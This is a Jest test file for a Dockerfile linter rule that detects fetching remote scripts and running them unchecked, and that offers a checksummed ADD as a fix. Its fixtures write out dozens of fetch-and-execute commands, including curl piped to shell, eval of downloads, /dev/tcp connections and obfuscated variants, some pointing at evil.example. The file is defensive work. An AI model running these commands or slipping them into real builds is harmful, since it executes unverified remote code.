import { describe, expect, it } from '@jest/globals';
import { applyEdits } from '../../../src/model/findings/fix.ts';
import rule from '../../../src/rules/supply-chain/downloads/remote-script-exec.ts';
import { checkText, expectMarks, messagesOf } from '../../support/example.ts';

const COMMIT = '4f8e2b1c9d7a6350e4f1b2c3d4e5f60718293a4b';
const PINNED = `https://raw.githubusercontent.com/acme/a/${COMMIT}/a.sh`;

const FETCHED = "fetch('https://example.com/a').then(r=>r.text())";

/** Code of Python with a download in its place. */
const withDownload = (code: string) =>
  `import os, subprocess, urllib.request; ${code}`.replace(
    'DOWNLOAD',
    "urllib.request.urlopen('https://example.com/a').read()",
  );

/** Each runs the first word of CMD as a script. */
const SHELLS_FOR_CMD = [
  '["/bin/sh", "-c"]',
  '["bash", "-ec"]',
  '["/bin/bash", "-euo", "pipefail", "-c"]',
  '["bash", "-ceuo", "pipefail"]',
  '["bash", "-c", "-e"]',
  '["bash", "+o", "posix", "--norc", "-c"]',
  '["tini", "--", "sh", "-c"]',
  '["/sbin/tini", "-g", "--", "/bin/sh", "-e", "-c"]',
  '["dumb-init", "sh", "-c"]',
  '["catatonit", "--", "bash", "-o", "pipefail", "-c"]',
  '["/usr/bin/env", "-S", "bash", "-c"]',
  '["gosu", "app", "ksh", "-c"]',
  '["nice", "-n", "5", "zsh", "-lc"]',
  '["busybox", "sh", "-c"]',
  '["conda", "run", "-n", "x", "bash", "-c"]',
];

/** Each runs CMD as a program, or as the file of a script. */
const OTHERS_FOR_CMD = [
  '["sh"]',
  '["sh", "-e"]',
  '["sh", "x.sh", "-c"]',
  '["app", "-c"]',
  '["tini", "--"]',
  '["bash", "-o", "c"]',
];

describe('remote-script-exec', () => {
  it.each(SHELLS_FOR_CMD)('reports CMD as the script of %s', (entrypoint) => {
    expectMarks(
      rule,
      'Dockerfile',
      `FROM debian:12\nENTRYPOINT ${entrypoint}\nCMD ["«curl https://example.com/a | sh»"]`,
    );
  });

  it.each(OTHERS_FOR_CMD)('reports nothing in CMD after %s', (entrypoint) => {
    const dockerfile = `FROM debian:12\nENTRYPOINT ${entrypoint}\nCMD ["curl https://example.com/a | sh"]`;
    expectMarks(rule, 'Dockerfile', dockerfile);
  });

  it.each([
    [
      'a pipe beside what is verified',
      'RUN curl -O https://example.com/t.tgz && sha256sum -c t.tgz.sum && «curl https://example.com/a | sh»',
    ],
    [
      'a pipe after what is verified',
      'RUN curl -O https://example.com/a && sha256sum -c sums && «curl https://example.com/a | sh»',
    ],
    ['a pipe after a signature', 'RUN gpg --verify a.sig a && «sh -c "$(curl https://example.com/a)"»'],
    [
      'a text that comes after what is verified',
      'RUN sha256sum -c sums && S=$(curl https://example.com/a) && «sh -c "$S"»',
    ],
    ['a function that fetches again', 'RUN f() { curl https://example.com/a; }; f; sha256sum -c sums; «f | sh»'],
    ['a pipe into a default', 'ENV S=${NOPE:-sh}\nRUN «curl https://example.com/a | $S»'],
    ['CMD for a shell', 'ENTRYPOINT ["/bin/sh", "-c"]\nCMD ["«curl https://example.com/a | sh»"]'],
    ['CMD before its shell', 'CMD ["«curl https://example.com/a | sh» && exec app"]\nENTRYPOINT ["bash", "-ec"]'],
    [
      'CMD for the shell of a base',
      'FROM debian:12 AS b\nENTRYPOINT ["sh", "-c"]\nFROM b\nCMD ["«curl https://example.com/a | sh»"]',
    ],
    ['CMD with the options of its shell', 'ENTRYPOINT ["/bin/bash"]\nCMD ["-c", "«curl https://example.com/a | sh»"]'],
    ['a table of cron', 'RUN «curl -fsSL https://example.com/a | crontab -»'],
    ['a table of cron for a user', 'RUN «curl -fsSL https://example.com/a | crontab -u app -»'],
    ['jobs', 'RUN «curl -fsSL https://example.com/a | at now»; «curl https://example.com/b | batch»'],
    ['a connection of bash', "RUN bash -c '«cat </dev/tcp/example.com/80 | sh»'"],
    ['a connection of bash in a file', "RUN bash -c 'cat </dev/tcp/example.com/80 > /i; «sh /i»'"],
    ['a pipe into sh', 'RUN «curl -fsSL https://example.com/a | sh»'],
    ['a pipe into sudo', 'RUN «curl -fsSL https://example.com/a | sudo -E bash -»'],
    ['a pipe with arguments', 'RUN «curl https://example.com/a | bash -s -- --version 1.4»'],
    ['a pipe with options', 'RUN «wget -O - https://example.com/a | bash -ex»'],
    ['a pipe with a flag in a bundle', 'RUN «wget -qO- https://example.com/a | bash»'],
    ['a pipe with errors in it', 'RUN «curl https://example.com/a |& sh»'],
    ['a pipe that throws errors away', 'RUN «curl https://example.com/a 2>/dev/null | sh»'],
    ['a pipe through other programs', 'RUN «curl https://example.com/a | tee /log | gunzip | sh»'],
    ['a pipe into python', 'RUN «curl -sSL https://example.com/a | python3 - --yes»'],
    ['a pipe into node', 'RUN «curl -sSL https://example.com/a | node»'],
    ['a pipe into php', 'RUN «curl -sS https://example.com/installer | php -- --install-dir=/bin»'],
    ['a pipe into the shell itself', 'RUN «curl https://example.com/a | . /dev/stdin»'],
    ['a pipe with a variable', 'ARG URL\nRUN «curl $URL | sh»'],
    ['a condition', 'RUN «curl https://example.com/a | if true; then sh»; fi'],
    ['a group', 'RUN «curl https://example.com/a | { read x; sh»; }'],
    ['a subshell', 'RUN «curl https://example.com/a | (cd /b && bash -s»)'],
    ['a pipe in a group', 'RUN «curl https://example.com/a | { true; cat | sh»; }'],
    ['a group in a loop', 'RUN «curl https://example.com/a | while true; do { true; sh»; }; done'],
    ['a line of a loop', 'RUN curl https://example.com/a | while read -r l; do «sh -c "$l"»; done'],
    ['a function with a later shell', 'RUN f() { curl https://example.com/a | $s; }; s=sh; «f»'],
    ['a function with a later interpreter', 'RUN f() { curl https://example.com/a | "$s" -; }; s=python3; «f»'],
    ['a function with a shell for one call', 'RUN f() { curl https://example.com/a | sudo $s; }; «s="bash -s" f»'],
    ['a function with a later filter', 'RUN f() { curl https://example.com/a | $s; }; s=cat; f'],
    ['a function that asks an interpreter', 'RUN f() { curl https://example.com/a | cat; $s -V; }; s=python3; f'],
    ['a function', 'RUN f() { sh; }; «curl https://example.com/a | f»'],
    ['a shell in a shell', "RUN «curl https://example.com/a | sh -c 'cat | sh»'"],
    ['the input in a substitution', 'RUN «curl https://example.com/a | bash -c "$(cat)"»'],
    ['sh -c', 'RUN «sh -c "$(curl -fsSL https://example.com/a)"»'],
    ['sh -c with backticks', 'RUN «sh -c "`curl -fsSL https://example.com/a`"»'],
    ['python -c', 'RUN «python3 -c "$(wget -qO- https://example.com/a)"»'],
    ['eval', 'RUN «eval "$(curl -fsSL https://example.com/a)"»'],
    ['a commit in the path of a server', `RUN «curl https://example.com/${COMMIT}/a.sh | sh»`],
    ['a commit in a query', `RUN «curl https://example.com/a.sh?${COMMIT} | sh»`],
    ['a commit over a connection without TLS', `RUN «curl http://github.com/acme/a/raw/${COMMIT}/a.sh | sh»`],
    [
      'a second address without a commit',
      `RUN «curl https://github.com/acme/a/raw/${COMMIT}/a.sh https://example.com/a | sh»`,
    ],
    ...[
      `curl -A ${COMMIT} evil.example/a`,
      `curl evil.example/a ${PINNED}`,
      `curl ${COMMIT}.evil.example/a`,
      `curl -e ${PINNED} evil.example/a`,
      `curl -x ${PINNED} https://evil.example/a`,
      `curl --url evil.example/a ${PINNED}`,
      `curl ${PINNED} --next https://evil.example/a`,
      `curl -fsSLk ${PINNED}`,
      `curl --insecure ${PINNED}`,
      `curl --request-target /acme/b/main/a.sh ${PINNED}`,
      `curl -K /a ${PINNED}`,
      `curl ${PINNED}/../../main/a.sh`,
      `wget -qO- --no-check-certificate ${PINNED}`,
      `wget -qO- -e check_certificate=off ${PINNED}`,
      `wget -qO- -i /list ${PINNED}`,
      `http --verify=no ${PINNED}`,
      `xargs curl ${PINNED}`,
      `$FETCH ${PINNED} evil.example/a`,
      `$FETCH https://evil.example/a ${PINNED}`,
      `git archive --remote=ssh://git@git.example.com/a.git main ${COMMIT}`,
      `git archive --remote=ssh://git@git.example.com/a.git --prefix ${COMMIT} main`,
    ].map((fetch) => ['a commit that is not all it fetches', `RUN «${fetch} | sh»`]),
    ['a process substitution', 'RUN «bash <(curl -s https://example.com/a) --yes»'],
    ['source', 'RUN «source <(curl -s https://example.com/a)»'],
    ['a here-string', 'RUN «bash <<< "$(curl -s https://example.com/a)"»'],
    ['echo', 'RUN «echo "$(curl -s https://example.com/a)" | sh»'],
    ['an inner script', 'RUN bash -c "«curl -s https://example.com/a | sh»"'],
    ['the exec form', 'RUN ["bash", "-c", "«curl -s https://example.com/a | sh»"]'],
    ['a here-document', 'RUN <<EOF\nset -e\n«curl -s https://example.com/a | sh»\nEOF'],
    ['a contributing stage', 'RUN «curl https://example.com/a | sh»\nFROM scratch\nCOPY --from=0 /a /a'],
    ['a start command', 'CMD «curl https://example.com/a | sh»'],
    ['an entrypoint', 'ENTRYPOINT ["sh", "-c", "«curl https://example.com/a | sh»"]'],
    ['a health check', 'HEALTHCHECK --interval=5s CMD «wget -qO- https://example.com/a | sh»'],
    ['a variable', 'RUN S=$(curl https://example.com/a); «eval "$S"»'],
    ['a variable in sh -c', 'RUN S=`curl https://example.com/a` && «bash -ec "${S}"»'],
    ['a variable in Python', 'RUN S=$(curl https://example.com/a) && «python3 -c "$S"»'],
    ['a variable of a variable', 'RUN S=$(curl https://example.com/a); T="$S"; «eval "$T"»'],
    ['an exported variable', 'RUN export A=1 S="$(curl https://example.com/a)"; «sh -c "$S"»'],
    ['the second of two variables', 'RUN A=$(b) S=$(curl https://example.com/a); eval "$A"; «eval "$S"»'],
    ['a variable after a command', 'RUN S=$(curl https://example.com/a); «sh -c "set -e; $S"»'],
    ['a variable in a pipe', `RUN S=$(curl https://example.com/a); «printf '%s' "$S" | sh»`],
    ['a variable in a here-string', 'RUN S=$(curl https://example.com/a); «bash <<< "$S"»'],
    ['a variable that is the command', 'RUN S=$(curl https://example.com/a); «$S»'],
    ['a variable that read sets', 'RUN read -r S < <(curl https://example.com/a); «eval "$S"»'],
    ['lines that are read', 'RUN curl https://example.com/a | while read l; do «eval "$l"»; done'],
    ['a list that mapfile sets', 'RUN mapfile -t A < <(curl https://example.com/a); «eval "${A[@]}"»'],
    ['a function', 'RUN f() { curl https://example.com/a; }; «f | sh»'],
    ['a function in a substitution', 'RUN f() { curl https://example.com/a; }; «sh -c "$(f)"»'],
    ['a function with the name of a fetcher', 'RUN fetch() { curl "$1"; }; «fetch https://example.com/a | sh»'],
    ['such a function in a substitution', 'RUN http() { wget -qO- "$1"; }; «sh -c "$(http https://example.com/a)"»'],
    [
      'such a function that is defined later',
      'RUN main() { «fetch https://example.com/a | sh»; }; fetch() { curl "$1"; }; main',
    ],
    ['such a function that prints something else', 'RUN fetch() { cat "/opt/$1"; }; fetch https://example.com/a | sh'],
    ['such a function for a filter', 'RUN fetch() { curl "$1"; }; fetch https://example.com/a | jq .tag'],
    ['a script that fetches', `RUN «sh -c 'curl https://example.com/a' | sh»`],
    ['xargs', 'RUN «curl https://example.com/a | xargs -0 sh -c»'],
    ['xargs with a name for it', "RUN «curl https://example.com/a | xargs -I{} bash -c '{}'»"],
    ['cat of a redirect', 'RUN «sh -c "$(cat < <(curl https://example.com/a))"»'],
    ['a redirect alone', 'RUN «bash -c "$(< <(curl https://example.com/a))"»'],
    ['a substitution after a command', 'RUN «eval "set -e; $(curl https://example.com/a)"»'],
    ['a line of an inner here-document', 'RUN <<E\n«sh <<X»\nset -e\n$(curl https://example.com/a)\nX\nE'],
    ['a variable in an inner here-document', 'RUN <<E\nS=$(curl https://example.com/a)\nsh <<X\n«$S»\nX\nE'],
    ['a script that the Dockerfile writes', 'COPY <<E /x\n«curl https://example.com/a | sh»\nE\nRUN sh /x'],
    ['a fetcher of several', 'RUN case $(arch) in x) g=curl;; *) g=wget;; esac; «$g https://example.com/a | sh»'],
    ['a shell of several', 'RUN case $(arch) in x) s=bash;; *) s=sh;; esac; «curl https://example.com/a | $s»'],
    ['a shell behind a variable', 'RUN «curl https://example.com/a | $SUDO bash -»'],
    ['a pattern of programs', 'RUN «/usr/bin/cur[l] https://example.com/a | /bin/b?sh»'],
    ['a pattern of any interpreter', 'RUN «curl https://example.com/a | /usr/bin/rub*»'],
    ['a program that is put together', 'RUN «$(echo dvsm | tr b-z a-y) https://example.com/a | sh»'],
    ['the shell itself', 'RUN «curl https://example.com/a | $SHELL»'],
    ['a script of sed that runs lines', `RUN «curl https://example.com/a | sed 's/^//e'»`],
    ['a trap', 'RUN «trap "$(curl https://example.com/a)" EXIT»'],
    ['rules of make', 'RUN «make -f <(curl https://example.com/a)»'],
    [
      'a split text of env',
      'RUN «env -S "sh -c" "curl https://example.com/a | sh"»'
        .replace('«', '')
        .replace('"curl', '"«curl')
        .replace('sh"»', 'sh»"'),
    ],
    ['the input of the whole script', 'RUN exec < <(«curl https://example.com/a); bash»'],
    ['a here-document in a substitution', 'RUN <<E\ns=$(cat <<X\n$(curl https://example.com/a)\nX\n)\n«eval "$s"»\nE'],
    ['a connection', 'RUN exec 5<>/dev/tcp/example.com/80; «sed 1d <&5 | sh»'],
    ['a second transfer', 'RUN «curl -o /a https://example.com/b --next https://example.com/a | sh»'],
    [
      'a shell that Python starts',
      `RUN «python3 -c "import subprocess as s; s.run(['sh'], input=urlopen('https://example.com/a').read())"»`,
    ],
    ...[
      "subprocess.run(['sh','-c',DOWNLOAD])",
      "subprocess.check_call(['bash', '-c', DOWNLOAD])",
      "subprocess.Popen(('/bin/bash', '-e', '-uc', DOWNLOAD))",
      "t = DOWNLOAD; subprocess.run(['sh', '-c', t.decode()], check=True)",
      "os.execlp('sh', 'sh', '-c', DOWNLOAD)",
      "subprocess.run(['python3', '-c', DOWNLOAD])",
    ].map((code) => ['a list of Python', `RUN «python3 -c "${withDownload(code)}"»`]),
    [
      'a list of Python over lines',
      `RUN «python3 <<EOF»\n${withDownload('t = DOWNLOAD')}\nsubprocess.run([\n    'sh',\n    '-c',\n    t,\n])\nEOF`,
    ],
    ...[
      "t=>require('child_process').spawnSync('sh',['-c',t])",
      "t=>require('node:child_process').exec(t)",
      "t=>{const cp=require('child_process');cp.exec(t)}",
      "require('child_process').exec",
      "t=>require('child_process').spawn(t,{shell:true})",
      "t=>require('child_process').execFileSync('node',['-e',t])",
    ].map((code) => ['a shell that Node starts', `RUN «node -e "${FETCHED}.then(${code})"»`]),
    ['a part of a document', 'RUN «curl https://example.com/a | jq -r .script | sh»'],
    ['a part in a substitution', 'RUN «eval "$(curl https://example.com/a | jq -r .script)"»'],
    ['a part in a variable', 'RUN S=$(curl https://example.com/a | yq .script) && «sh -c "$S"»'],
    ['a part in a file', 'RUN «bash <(curl https://example.com/a | jq -r ".a | @text")»'],
    ['a part with values that are not quoted', `RUN «eval "$(curl https://example.com/a | jq -r '"A=\\(.a)"')"»`],
    ['a program that is not known', 'RUN «curl https://example.com/a | /opt/render --plain | sh»'],
    ['a file of an archive', 'RUN «curl https://example.com/a.tgz | tar xzO a/install.sh | sh»'],
    ['a file of an archive by its option', 'RUN «curl https://example.com/a.tgz | tar -xz --to-stdout a.sh | bash»'],
    ['a filter in Python', 'RUN «curl https://example.com/a | python3 -c "import sys; print(sys.stdin.read())" | sh»'],
    ['a filter in Perl', "RUN «curl https://example.com/a | perl -pe 's/a/b/' | sh»"],
    ['code of Python', 'RUN «curl https://example.com/a | python3 -c "import sys; exec(sys.stdin.read())"»'],
    ['a file of Python', `RUN «curl https://example.com/a | python3 -c "exec(open('/dev/stdin').read())"»`],
    [
      'a command of Python',
      'RUN «curl https://example.com/a | python3 -c "import os,sys; os.system(sys.stdin.read())"»',
    ],
    ['code of Perl', 'RUN «curl https://example.com/a | perl -e "eval <STDIN>"»'],
    ['all code of Perl', `RUN «curl https://example.com/a | perl -e 'eval join "", <>'»`],
    ['lines of Perl', `RUN «curl https://example.com/a | perl -ne 'system $_'»`],
    ['code of Ruby', "RUN «curl https://example.com/a | ruby -e 'eval STDIN.read'»"],
    ['code of Node', `RUN «curl https://example.com/a | node -e 'eval(require("fs").readFileSync(0,"utf8"))'»`],
    ['code of PHP', `RUN «curl https://example.com/a | php -r 'eval(file_get_contents("php://stdin"));'»`],
    ['lines of awk', "RUN «curl https://example.com/a | awk '{system($0)}'»"],
    ['a pipe of awk', `RUN «curl https://example.com/a | gawk '{print | "/bin/sh"}'»`],
    ['PowerShell', 'RUN «curl https://example.com/a | pwsh -Command -»'],
    ['PowerShell without a word', 'RUN «curl https://example.com/a | pwsh -NoProfile -ExecutionPolicy Bypass»'],
    ['Julia', 'RUN «curl https://example.com/a | julia -»'],
    ['what is verified only later', 'RUN «curl https://example.com/a | sh» && sha256sum -c sums'],
  ])('reports %s', (_name, text) => expectMarks(rule, 'Dockerfile', `FROM debian:12\n${text}`));

  it.each([
    [
      'a variable that is data',
      'RUN V=$(curl https://example.com/v); apt-get install -y a=$V && sh -c "echo $V" && eval "A=$V"',
    ],
    ['CMD for another program', 'ENTRYPOINT ["app", "-c"]\nCMD ["curl https://example.com/a | sh"]'],
    [
      'CMD after another program',
      'ENTRYPOINT ["sh", "-c"]\nENTRYPOINT ["app"]\nCMD ["curl https://example.com/a | sh"]',
    ],
    ['a variable that is set again', 'RUN S=$(curl https://example.com/a); S=b; eval "$S"'],
    ['a variable that is written to a file', 'RUN S=$(curl https://example.com/a); echo "$S" > /version; f | sh'],
    [
      'an argument of a script',
      `RUN curl https://example.com/a | xargs -n1 sh -c 'echo "$1"' _ && curl https://example.com/a | xargs sh x`,
    ],
    ['a function that saves a file', 'RUN f() { curl -o /a https://example.com/a; }; f | sh'],
    ['an inner here-document with data', 'RUN <<E\nsh <<X\necho $(curl https://example.com/a)\nX\nE'],
    ['a group that only reads', 'RUN curl https://example.com/a | { read x; echo $x; } && { true; sh b; }'],
    ['a shell with its own input in a group', 'RUN curl https://example.com/a | { read x; sh -c "echo a"; }'],
    ['data for jq', 'RUN curl https://example.com/a | jq -r .x'],
    ['a value of jq', 'RUN V=$(curl https://example.com/a | jq -r .tag) && apt-get install -y a=$V'],
    ['a value of jq in a script', 'RUN V=$(curl https://example.com/a | jq -r .tag) && sh -c "echo $V" && eval "A=$V"'],
    ['a value for a script', 'RUN sh install.sh "$(curl https://example.com/a | jq -r .tag)"'],
    ['quoted values', `RUN eval "$(curl https://example.com/a | jq -r '@sh "TAG=\\(.tag) SIZE=\\(.size)"')"`],
    ['quoted values of a part', `RUN eval "$(curl https://example.com/a | jq -r '.[0] | "TAG=\\(.tag|@sh)"')"`],
    ['quoted values of yq', 'RUN eval "$(curl https://example.com/a | yq -o=shell)"'],
    ['names for a loop', 'RUN curl https://example.com/a | jq -r ".[]" | while read -r l; do echo "$l"; done'],
    ['arguments', 'RUN curl https://example.com/a | jq -r ".[]" | xargs -n1 sh install.sh'],
    ['a condition', 'RUN [ "$(curl https://example.com/a | jq -r .status)" = ok ] && sh b'],
    ['what is verified in a pipe', 'RUN curl https://example.com/a | gpgv --output - | sh'],
    ['a sum', 'RUN curl https://example.com/a | sha256sum | sh'],
    ['columns', `RUN curl https://example.com/a | awk '{system("mkdir -p " $1)}'`],
    ['a filter of awk', `RUN curl https://example.com/a | awk '{print $1}' | sort -u > /a`],
    [
      'data for Python',
      `RUN curl https://example.com/a | python3 -c 'import ast,sys; print(ast.literal_eval(sys.stdin.read()))'`,
    ],
    [
      'data for Python that runs a command',
      `RUN curl https://example.com/a | python3 -c 'import os,sys; os.system("mkdir a"); print(sys.stdin.read())'`,
    ],
    ['lines for Perl', `RUN curl https://example.com/a | perl -ne 'print if /a/'`],
    [
      'data for PowerShell',
      'RUN curl https://example.com/a | pwsh -Command "a" && curl https://example.com/a | pwsh a.ps1',
    ],
    ['an archive', 'RUN curl https://example.com/a.tgz | tar xz'],
    ['the names in an archive', 'RUN curl https://example.com/a.tgz | tar tz | bash -c "wc -l"'],
    ['a key', 'RUN curl https://example.com/a.asc | gpg --dearmor -o /k.gpg'],
    [
      'data for code that is written here',
      `RUN curl https://example.com/a | python3 -c 'import json,sys; print(json.load(sys.stdin))'`,
    ],
    ['data for a module', 'RUN curl https://example.com/a | python3 -m json.tool'],
    ['data for perl', `RUN curl https://example.com/a | perl -pe 's/a/b/'`],
    ['data for node', 'RUN curl https://example.com/a | node -e "x" && curl https://example.com/a | node script.js'],
    ['data for a script', 'RUN curl https://example.com/a | bash ./script.sh'],
    ['data for a shell command', `RUN curl https://example.com/a | sh -c 'cat > /a'`],
    ['a file', 'RUN curl -o a https://example.com/a && sh a'],
    ['a file of a pipe', 'RUN curl https://example.com/a > a | sh'],
    ['wget, which writes a file', 'RUN wget https://example.com/a | sh'],
    ['a value', 'RUN VERSION=$(curl https://example.com/a) && echo $VERSION'],
    ['a word of a command', 'RUN sh -c "echo $(curl https://example.com/a)"'],
    [
      'a program of several that runs nothing',
      'RUN case $(arch) in x) s=wc;; *) s=cat;; esac; curl https://example.com/a | $s',
    ],
    ['a variable that is no shell', 'RUN curl https://example.com/a | $SUDO tee /a'],
    ['a script of sed that runs a command of its own', `RUN curl https://example.com/a | sed 's/a/date/e'`],
    ['a trap with a text', `RUN trap 'rm /a' EXIT; curl https://example.com/a > /a`],
    ['the input of other programs', 'RUN exec < <(curl https://example.com/a); wc -l'],
    ['another descriptor', 'RUN exec 5<>/dev/tcp/example.com/80; sed 1d <&5 | wc -l'],
    ...[
      "subprocess.run(['sh', '-c', 'date']); print(DOWNLOAD)",
      "c = 'date'\nsubprocess.run(['sh', '-c', c])\nprint(DOWNLOAD)",
      "subprocess.run(['wc', '-c', DOWNLOAD])",
      "subprocess.run(['tar', '-xf', 'a']); d = DOWNLOAD",
    ].map((code) => ['a list of Python', `RUN python3 <<'EOF'\n${withDownload(code)}\nEOF`] as const),
    ...[
      't=>console.log(/a(.)/.exec(t)[1])',
      "t=>{const cp=/a/;require('child_process').exec('date');cp.exec(t)}",
      "t=>{console.log(t);require('child_process').spawnSync('sh',['-c','date'])}",
      "t=>{console.log(t);require('child_process').spawn('date',{shell:true})}",
    ].map((code) => ['a program that Node starts', `RUN node -e "${FETCHED}.then(${code})"`] as const),
    [
      'a program that Python starts',
      `RUN python3 -c "import subprocess as s; s.run(['wc'], input=urlopen('https://example.com/a').read())"`,
    ],
    ...[
      `curl ${PINNED}`,
      `curl -x http://proxy.example.com:3128 -e https://example.com/ -A me/1.0 -m 9 ${PINNED}`,
      `curl --keepalive-time 9 --max-filesize 99 --connect-to a:443:b:443 --url ${PINNED}`,
      `curl ${PINNED} --next ${PINNED}`,
      `wget -qO- --tries 3 --header 'a: https://example.com/' --ca-directory /etc/ssl ${PINNED}`,
      `$FETCH --retry 5 ${PINNED}`,
      `git archive --remote=ssh://git@git.example.com/a.git --prefix a/ ${COMMIT} a.sh`,
    ].map((fetch) => ['an address that is a commit', `RUN ${fetch} | sh`] as const),
    [
      'a text that is verified before it runs',
      'RUN S=$(curl https://example.com/a) && echo "$S" | sha256sum -c sums && sh -c "$S"',
    ],
    ['quoted documentation', `RUN echo "curl https://example.com/a | sh" && printf 'curl x | bash' > /README`],
    ['a stage that is used by nothing', 'RUN curl https://example.com/a | sh\nFROM alpine:3.22'],
  ])('accepts %s', (_name, text) => expectMarks(rule, 'Dockerfile', `FROM debian:12\n${text}`));

  describe('a checksum of today', () => {
    const A = 'https://get.example.com/a.sh';
    const ADD = `ADD --chmod=755 --checksum=sha256:… ${A} /tmp/install.sh\n`;
    const fixed = (run: string) => {
      const text = `FROM debian:12\n${run}\n`;
      const [finding] = checkText(rule, 'Dockerfile', text).findings;
      return finding?.download && applyEdits(text, finding.download.fix.edits).slice('FROM debian:12\n'.length, -1);
    };

    it.each([
      [`RUN curl -fsSL ${A} | sh`, `${ADD}RUN sh /tmp/install.sh`],
      [`RUN a && curl ${A} | sudo -E bash - && b`, `${ADD}RUN a && sudo -E bash /tmp/install.sh && b`],
      [`RUN wget -qO- "${A}" | bash -s -- --yes x`, `${ADD}RUN bash /tmp/install.sh --yes x`],
    ])('is compared by the builder: %s', (bad, good) => expect(fixed(bad)).toBe(good));

    it.each([
      `RUN curl -fsSL http://get.example.com/a.sh | sh`,
      `RUN curl -H 'a: b' ${A} | sh`,
      `RUN curl --data b ${A} | sh`,
      `RUN sh -c "$(curl ${A})"`,
      `RUN curl $A | sh`,
      `RUN curl ${A} | tee /b | sh`,
    ])('is not put into %s', (text) => expect(fixed(text)).toBeUndefined());
  });

  it('names the host, and no password', () => {
    const text = 'FROM debian:12 AS base\nRUN curl https://me:hunter2@get.example.com:8443/a?t=1 | sudo bash\n';
    expect(messagesOf(rule, 'Dockerfile', text)).toEqual([
      'Stage "base" runs what curl fetches from get.example.com with bash, and nothing checks what that is.',
    ]);
  });
});
